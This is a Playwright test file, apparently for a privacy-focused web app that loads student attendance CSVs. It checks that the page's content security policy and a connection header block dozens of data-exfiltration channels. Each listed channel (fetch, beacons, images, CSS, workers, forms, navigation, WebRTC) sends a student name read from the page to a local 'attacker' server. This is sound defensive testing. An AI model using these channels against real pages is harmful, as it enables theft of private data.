// SPDX-License-Identifier: Apache-2.0
// Every way out of a page that we know, tried from inside it with a file loaded, against a server that keeps what reaches it.
// Each way is first tried on a page without a policy, where it gets through: so an attack that is no attack is found out. What
// the page's policy does not reach is tried with the header of the hosted copy too. The table of docs/privacy.md names the same.
import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { chromium, test as base, type Browser, type Page } from '@playwright/test';
import { done, dist, expect, givenFrom, giveFiles, top } from './fixtures.ts';
import { launchOptions } from './launch.ts';

// Runs in the page; `at` is an address of the attacker, ending with the way's name and what was read from the file.
type Way = (at: string) => unknown;

// Closed by the page's policy.
const closed: Record<string, Way> = {
  fetch: (at) => fetch(at),
  'fetch, no-cors POST': (at) => fetch(at, { method: 'POST', mode: 'no-cors', body: 'x' }),
  'fetch, keepalive': (at) => fetch(at, { keepalive: true, mode: 'no-cors' }),
  XMLHttpRequest: (at) => {
    const request = new XMLHttpRequest();
    request.open('GET', at);
    request.send();
  },
  beacon: (at) => navigator.sendBeacon(at, 'x'),
  WebSocket: (at) => new WebSocket(at.replace('http', 'ws')),
  EventSource: (at) => new EventSource(at),
  image: (at) => (new Image().src = at),
  'image, srcset': (at) => (new Image().srcset = `${at} 2x`),
  picture: (at) =>
    document.body.insertAdjacentHTML('beforeend', `<picture><source srcset="${at}"><img></picture>`),
  'image of SVG': (at) =>
    document.body.insertAdjacentHTML(
      'beforeend',
      `<svg width="9" height="9"><image href="${at}" width="9" height="9"/></svg>`,
    ),
  'filter image of SVG': (at) =>
    document.body.insertAdjacentHTML(
      'beforeend',
      `<svg width="9" height="9"><filter id="f"><feImage href="${at}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
    ),
  'input image': (at) => document.body.insertAdjacentHTML('beforeend', `<input type="image" src="${at}">`),
  video: (at) => document.body.insertAdjacentHTML('beforeend', `<video src="${at}" preload="auto"></video>`),
  'video poster': (at) => document.body.insertAdjacentHTML('beforeend', `<video poster="${at}"></video>`),
  audio: (at) => (new Audio(at).preload = 'auto'),
  object: (at) => document.body.insertAdjacentHTML('beforeend', `<object data="${at}"></object>`),
  embed: (at) => document.body.insertAdjacentHTML('beforeend', `<embed src="${at}">`),
  iframe: (at) => document.body.insertAdjacentHTML('beforeend', `<iframe src="${at}"></iframe>`),
  'iframe of srcdoc': (at) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<img src="${at}">`;
    document.body.append(frame);
  },
  'style sheet': (at) =>
    document.head.insertAdjacentHTML('beforeend', `<link rel="stylesheet" href="${at}">`),
  'style element': (at) => document.head.insertAdjacentHTML('beforeend', `<style>@import "${at}";</style>`),
  'style attribute, background': (at) =>
    document.body.insertAdjacentHTML('beforeend', `<p style="background:url(${at})">x</p>`),
  'background set by script': (at) => (document.body.style.backgroundImage = `url(${at})`),
  'content set by script': (at) => {
    const one = document.createElement('p');
    one.style.content = `url(${at})`;
    document.body.append(one);
  },
  'list image set by script': (at) => {
    const one = document.createElement('li');
    one.textContent = 'x';
    one.style.listStyleImage = `url(${at})`;
    document.body.append(one);
  },
  'constructed style sheet': (at) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`html::before { content: url(${at}) }`);
    document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
  },
  'font face': (at) => new FontFace('f', `url(${at})`).load(),
  script: (at) => document.head.append(Object.assign(document.createElement('script'), { src: at })),
  'module script': (at) =>
    document.head.append(Object.assign(document.createElement('script'), { src: at, type: 'module' })),
  import: (at) => import(at),
  'inline script': (at) =>
    document.head.append(
      Object.assign(document.createElement('script'), {
        textContent: `new Image().src = ${JSON.stringify(at)}`,
      }),
    ),
  'event attribute': (at) =>
    document.body.insertAdjacentHTML('beforeend', `<img src="data:," onerror="new Image().src='${at}'">`),
  'worker of a Blob: fetch': (at) =>
    new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(at)})`]))),
  'worker of a Blob: importScripts': (at) =>
    new Worker(URL.createObjectURL(new Blob([`importScripts(${JSON.stringify(at)})`]))),
  'worker of a Blob: import': (at) =>
    new Worker(URL.createObjectURL(new Blob([`import(${JSON.stringify(at)})`]))),
  'worker of a Blob: WebSocket': (at) =>
    new Worker(URL.createObjectURL(new Blob([`new WebSocket(${JSON.stringify(at.replace('http', 'ws'))})`]))),
  'shared worker of a Blob: fetch': (at) =>
    new SharedWorker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(at)})`]))),
  'speculation rules': (at) =>
    document.head.append(
      Object.assign(document.createElement('script'), {
        type: 'speculationrules',
        textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [at], eagerness: 'immediate' }] }),
      }),
    ),
  fetchLater: (at) =>
    (window as unknown as { fetchLater: (at: string, how: object) => void }).fetchLater(at, {
      activateAfter: 0,
    }),
  preload: (at) =>
    document.head.insertAdjacentHTML('beforeend', `<link rel="preload" as="image" href="${at}">`),
  'module preload': (at) =>
    document.head.insertAdjacentHTML('beforeend', `<link rel="modulepreload" href="${at}">`),
  prefetch: (at) => document.head.insertAdjacentHTML('beforeend', `<link rel="prefetch" href="${at}">`),
  icon: (at) => document.head.insertAdjacentHTML('beforeend', `<link rel="icon" href="${at}">`),
  'ping of a link': (at) => {
    document.body.insertAdjacentHTML('beforeend', `<a href="#files" ping="${at}">x</a>`);
    (document.body.lastElementChild as HTMLElement).click();
  },
  base: (at) => {
    document.head.insertAdjacentHTML('afterbegin', `<base href="${at}/">`);
    new Image().src = 'relative';
  },
};

// Closed by the page's policy; on a page without one they lead away from it, so each has a page of its own.
const closedForms: Record<string, Way> = {
  'form, GET': (at) => {
    document.body.insertAdjacentHTML('beforeend', `<form action="${at}"><input name="x" value="y"></form>`);
    (document.body.lastElementChild as HTMLFormElement).submit();
  },
  'form, POST': (at) => {
    document.body.insertAdjacentHTML('beforeend', `<form action="${at}" method="post"></form>`);
    (document.body.lastElementChild as HTMLFormElement).requestSubmit();
  },
  'form, button with an address': (at) => {
    document.body.insertAdjacentHTML('beforeend', `<form><button formaction="${at}">x</button></form>`);
    (document.body.lastElementChild?.firstElementChild as HTMLElement).click();
  },
};

// Not reached by any policy of a page; closed by the header Connection-Allowlist where a browser knows it.
const byHeader: Record<string, Way> = {
  location: (at) => location.assign(at),
  link: (at) => Object.assign(document.createElement('a'), { href: at }).click(),
  'link to a new window': (at) =>
    Object.assign(document.createElement('a'), { href: at, target: '_blank' }).click(),
  'window.open': (at) => window.open(at),
  'meta refresh': (at) =>
    document.head.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0;url=${at}">`),
  'download of another address': (at) =>
    Object.assign(document.createElement('a'), { href: at, download: 'x' }).click(),
};

interface Attacker {
  address: string;
  stun: string;
  got: string[];
}

const test = base.extend<object, { browser7: Browser; attacker: Attacker }>({
  browser7: [
    async ({}, use) => {
      const browser = await chromium.launch(launchOptions);
      await use(browser);
      await browser.close();
    },
    { scope: 'worker' },
  ],
  attacker: [
    async ({}, use) => {
      const got: string[] = [];
      const server = createServer((request, response) => {
        got.push(decodeURIComponent(request.url ?? ''));
        response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' });
        response.end();
      });
      server.on('upgrade', (request, socket) => {
        got.push(decodeURIComponent(request.url ?? ''));
        socket.destroy();
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const udp = createSocket('udp4');
      udp.on('message', () => got.push('/WebRTC'));
      await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
      await use({
        address: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
        stun: `stun:127.0.0.1:${udp.address().port}`,
        got,
      });
      server.closeAllConnections();
      server.close();
      udp.close();
    },
    { scope: 'worker' },
  ],
});

interface Host {
  bare: string; // a page without a policy
  page: string; // the built one
  hosted: string; // the same with the header
  close: () => void;
}

async function startHost(): Promise<Host> {
  const server = createServer((request, response) => {
    const headers: Record<string, string> = { 'content-type': 'text/html; charset=utf-8' };
    if (request.url === '/hosted') headers['connection-allowlist'] = '()';
    response.writeHead(200, headers);
    response.end(
      request.url === '/bare'
        ? '<!doctype html><title>Bare</title><link rel="icon" href="data:,"><p id="files">x</p>'
        : readFileSync(path.join(dist, 'site/index.html')),
    );
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    bare: `${address}/bare`,
    page: `${address}/page`,
    hosted: `${address}/hosted`,
    close: () => server.close(),
  };
}

const files = ['attendance.csv', 'roster.csv', 'calendar.csv'].map((name) =>
  givenFrom(top, 'examples/friday-and-monday', name),
);

async function openAt(browser: Browser, address: string): Promise<Page> {
  const page = await (await browser.newContext()).newPage();
  await page.goto(address);
  if (address.endsWith('/bare')) return page;
  await giveFiles(page, files);
  await done(page);
  // Leaving is not asked about here.
  await page.evaluate(() => {
    addEventListener('beforeunload', (event) => event.stopImmediatePropagation(), { capture: true });
  });
  return page;
}

// Tries these ways from one page; the names of those that got through.
async function tryAll(page: Page, ways: Record<string, Way>, { address, got }: Attacker): Promise<string[]> {
  got.length = 0;
  for (const [name, way] of Object.entries(ways)) {
    const at = `${address}/${encodeURIComponent(name)}`;
    await page
      .evaluate(
        ([way, at]) => {
          const secret = document.querySelector('[data-student]')?.textContent?.trim() ?? 'nobody';
          const attack = (0, eval)(`(${way})`) as (at: string) => unknown;
          Promise.resolve(attack(`${at}/${encodeURIComponent(secret)}`)).catch(() => undefined);
        },
        [way.toString(), at] as const,
      )
      .catch(() => undefined); // it led away
  }
  await page.waitForTimeout(1500);
  const names = Object.keys(ways).filter((name) => got.some((path) => path.startsWith(`/${name}/`)));
  return names.sort();
}

async function tryEach(
  browser: Browser,
  address: string,
  ways: Record<string, Way>,
  attacker: Attacker,
): Promise<string[]> {
  const through: string[] = [];
  for (const [name, way] of Object.entries(ways)) {
    const page = await openAt(browser, address);
    through.push(...(await tryAll(page, { [name]: way }, attacker)));
    await page.context().close();
  }
  return through.sort();
}

test.describe('ways out', () => {
  test.setTimeout(240_000);
  let host: Host;
  test.beforeAll(async () => {
    host = await startHost();
  });
  test.afterAll(() => host.close());

  test('what the policy closes gets through without it, and not with it', async ({ browser7, attacker }) => {
    const bare = await openAt(browser7, host.bare);
    expect(await tryAll(bare, closed, attacker)).toEqual(Object.keys(closed).sort());
    const page = await openAt(browser7, host.page);
    expect(await page.locator('[data-student]').first().textContent()).toContain('Ada Quill');
    expect(await tryAll(page, closed, attacker)).toEqual([]);
    expect(attacker.got).toEqual([]);
    await bare.context().close();
    await page.context().close();
  });

  test('no form is sent', async ({ browser7, attacker }) => {
    expect(await tryEach(browser7, host.bare, closedForms, attacker)).toEqual(
      Object.keys(closedForms).sort(),
    );
    expect(await tryEach(browser7, host.page, closedForms, attacker)).toEqual([]);
  });

  test('what no policy of a page reaches is closed by the header', async ({ browser7, attacker }) => {
    expect(await tryEach(browser7, host.page, byHeader, attacker)).toEqual(Object.keys(byHeader).sort());
    expect(await tryEach(browser7, host.hosted, byHeader, attacker)).toEqual([]);
  });

  test('in the worker, where the files are, every call fails and there is no WebRTC, document or window', async ({
    browser7,
    attacker,
  }) => {
    const page = await openAt(browser7, host.page);
    attacker.got.length = 0;
    const workers = page.workers();
    expect(workers.length).toBeGreaterThan(0);
    for (const worker of workers) {
      const outcome = await worker.evaluate(async (at) => {
        const failed: string[] = [];
        const attempt = async (name: string, way: () => unknown): Promise<void> => {
          try {
            await way();
          } catch {
            failed.push(name);
          }
        };
        await attempt('fetch', () => fetch(`${at}/fetch`));
        await attempt('XMLHttpRequest', () => {
          const request = new XMLHttpRequest();
          request.open('GET', `${at}/xhr`, false);
          request.send();
        });
        await attempt('import', () => import(`${at}/import`));
        await attempt('importScripts', () =>
          (self as unknown as { importScripts: (at: string) => void }).importScripts(`${at}/scripts`),
        );
        await attempt('EventSource', () => new EventSource(`${at}/events`));
        await attempt('WebSocket', () => new WebSocket(`${at.replace('http', 'ws')}/socket`));
        const there = ['RTCPeerConnection', 'document', 'window', 'open', 'localStorage'].filter(
          (name) => name in self,
        );
        return { failed, there };
      }, attacker.address);
      expect(outcome.there).toEqual([]);
      expect(outcome.failed).toEqual(
        expect.arrayContaining(['fetch', 'XMLHttpRequest', 'import', 'importScripts']),
      );
    }
    await page.waitForTimeout(500);
    expect(attacker.got).toEqual([]);
    await page.context().close();
  });

  test('what this server cannot answer is refused by the policy', async ({ browser7, attacker }) => {
    const page = await openAt(browser7, host.page);
    const refused = (way: string, address: string): Promise<string> =>
      page.evaluate(
        ([way, address]) =>
          new Promise<string>((resolve) => {
            addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
              once: true,
            });
            if (way === 'WebTransport') new WebTransport(address).closed.catch(() => undefined);
            else if (way === 'service worker')
              navigator.serviceWorker.register(address).catch(() => undefined);
            else document.head.insertAdjacentHTML('beforeend', `<link rel="manifest" href="${address}">`);
            setTimeout(() => resolve('nothing'), 3000);
          }),
        [way, address] as const,
      );
    expect(await refused('WebTransport', attacker.address.replace('http:', 'https:'))).toBe('connect-src');
    expect(await refused('service worker', '/sw.js')).toBe('worker-src');
    await page.context().close();
  });

  test('WebRTC: not reached by a policy; what the header does is what the table says', async ({
    browser7,
    attacker,
  }) => {
    const through: string[] = [];
    for (const address of [host.page, host.hosted]) {
      const page = await openAt(browser7, address);
      attacker.got.length = 0;
      await page.evaluate(async (urls) => {
        const call = new RTCPeerConnection({ iceServers: [{ urls }] });
        call.createDataChannel('x');
        await call.setLocalDescription(await call.createOffer());
      }, attacker.stun);
      await page.waitForTimeout(1500);
      if (attacker.got.includes('/WebRTC')) through.push(address === host.page ? 'page' : 'hosted');
      await page.context().close();
    }
    const says =
      /^\| WebRTC \| ([^|]+)\|/m.exec(readFileSync(path.join(top, 'docs/privacy.md'), 'utf8'))?.[1] ?? '';
    expect(through).toContain('page');
    expect(says.includes('header')).toBe(!through.includes('hosted'));
  });

  test('the table of docs/privacy.md names each of them, and what closes it', () => {
    const rows = [
      ...readFileSync(path.join(top, 'docs/privacy.md'), 'utf8').matchAll(
        /^\| ([^|]+) \| ([^|]+) \| ([^|]+) \|$/gm,
      ),
    ].map(([, way = '', by = '']) => [way, by] as const);
    const named = (word: string): string[] => rows.filter(([, by]) => by.includes(word)).map(([way]) => way);
    expect(named('policy:').sort()).toEqual([...Object.keys(closed), ...Object.keys(closedForms)].sort());
    for (const way of Object.keys(byHeader)) expect(named('header'), way).toContain(way);
  });
});
